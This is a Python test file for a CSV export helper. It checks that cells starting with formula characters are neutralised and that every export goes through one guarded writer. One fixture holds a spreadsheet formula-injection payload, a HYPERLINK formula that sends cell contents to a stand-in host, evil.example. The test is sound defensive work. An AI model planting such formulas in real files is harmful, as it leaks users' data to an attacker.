"""Every CSV export guards its cells against spreadsheet formulas (one helper: core.csv)."""

import csv
import io
from pathlib import Path

import pytest

from core.csv import csv_response, safe_cell

ROOT = Path(__file__).resolve().parents[2]


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Printer", "Printer"),
        ("a=b", "a=b"),
        (-5, -5),
        (None, ""),
        (1.5, 1.5),
    ],
)
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_csv_response_guards_header_and_rows():
    response = csv_response("x.csv", ["=H"], [['=HYPERLINK("http://evil.example/?"&A1)', 3]])
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [["'=H"], ['\'=HYPERLINK("http://evil.example/?"&A1)', "3"]]


def test_no_export_writes_csv_on_its_own():
    """Exports go through core.csv; a new csv.writer elsewhere would skip the guard."""
    offenders = []
    for path in ROOT.rglob("*.py"):
        relative = path.relative_to(ROOT)
        if relative.parts[0] in {".venv", "tests", "benchmarks", "node_modules"} or relative == Path(
            "core/csv.py"
        ):
            continue
        text = path.read_text(encoding="utf-8")
        if "csv.writer" in text or "csv.DictWriter" in text or "text/csv" in text:
            offenders.append(str(relative))
    assert offenders == []
